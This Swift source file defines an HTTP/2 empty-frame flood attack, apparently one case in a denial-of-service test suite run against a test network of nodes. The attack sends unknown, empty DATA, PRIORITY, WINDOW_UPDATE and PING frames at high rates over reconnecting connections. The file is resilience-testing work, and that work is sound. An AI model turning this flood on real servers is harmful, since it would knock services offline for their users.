import Protocol

/// HTTP/2 frames without end that carry nothing or mean nothing: each kind that a node has to pass
/// over or to count, by turns.
struct EmptyFrameFlood: Attack {
    let adversary: Adversary

    init(by adversary: Adversary) {
        self.adversary = adversary
    }

    private var isMember: Bool { adversary == .member }
    var number: String { isMember ? "p3d" : "p3c" }
    var title: String {
        isMember ? "empty HTTP/2 frames at the port for nodes" : "empty HTTP/2 frames at the API"
    }

    /// How many bytes a second each of two connections sends.
    private static let bytesPerSecond = 10_000_000.0
    private static let perRecord = 1_800

    /// A kind of frame, as it is sent `count` times.
    private struct Kind: Sendable {
        let name: String
        let frame: Bytes
    }

    private static let kinds = [
        Kind(name: "unknown frames", frame: HTTP2Frame.encode(HTTP2Frame.unknown)),
        Kind(
            name: "unknown frames with a byte", frame: HTTP2Frame.encode(HTTP2Frame.unknown, [0])),
        Kind(name: "empty DATA", frame: HTTP2Frame.encode(HTTP2Frame.data, stream: 1)),
        Kind(
            name: "PRIORITY",
            frame: HTTP2Frame.encode(HTTP2Frame.priority, [0, 0, 0, 0, 1], stream: 3)),
        Kind(
            name: "WINDOW_UPDATE of 1 KiB",
            frame: HTTP2Frame.encode(HTTP2Frame.windowUpdate, [0, 0, 4, 0])),
        Kind(
            name: "acknowledged PING",
            frame: HTTP2Frame.encode(
                HTTP2Frame.ping, Bytes(repeating: 0, count: 8), flags: HTTP2Frame.acknowledged)),
    ]

    func run(against testnet: AttackedTestnet, _ effort: AttackEffort) throws {
        let node = try testnet.node(target)
        let port = isMember ? node.p2pPort : node.apiPort
        let path = isMember ? "/busbar/1/sync" : "/"
        let context =
            isMember ? try testnet.testnet.registerAttackMember().context : try BlockingTLSContext()
        AttackThread.run(2) { thread in
            var reconnects = Pace(perSecond: 10)
            // One connection sends what no specification knows all the while, the other the rest.
            var turn = 0
            while !effort.isOver {
                reconnects.wait()
                let kind =
                    thread == 0 ? Self.kinds[0] : Self.kinds[1 + turn % (Self.kinds.count - 1)]
                turn += 1
                try? Self.flood(port, path, context, kind, effort)
            }
        }
    }

    /// Floods over one connection until the node ends it, or it is another kind's turn.
    private static func flood(
        _ port: UInt16, _ path: String, _ context: BlockingTLSContext, _ kind: Kind,
        _ effort: AttackEffort
    ) throws(SocketFailure) {
        let client = try HTTP2Client(to: port, from: .stranger(0), context)
        try client.waitForSettings()
        _ = try client.open("POST", path)
        effort.count("connections")
        let record = Bytes([Bytes](repeating: kind.frame, count: perRecord).joined())
        var pace = Pace(perSecond: bytesPerSecond)
        let end = ContinuousClock.now + .seconds(effort.isShort ? 0.5 : 3)
        while !effort.isOver, ContinuousClock.now < end {
            pace.wait(for: record.count)
            try client.tls.send(record)
            effort.count("frames", perRecord)
            effort.count("bytes", record.count)
            try client.takeWaiting()
        }
    }
}
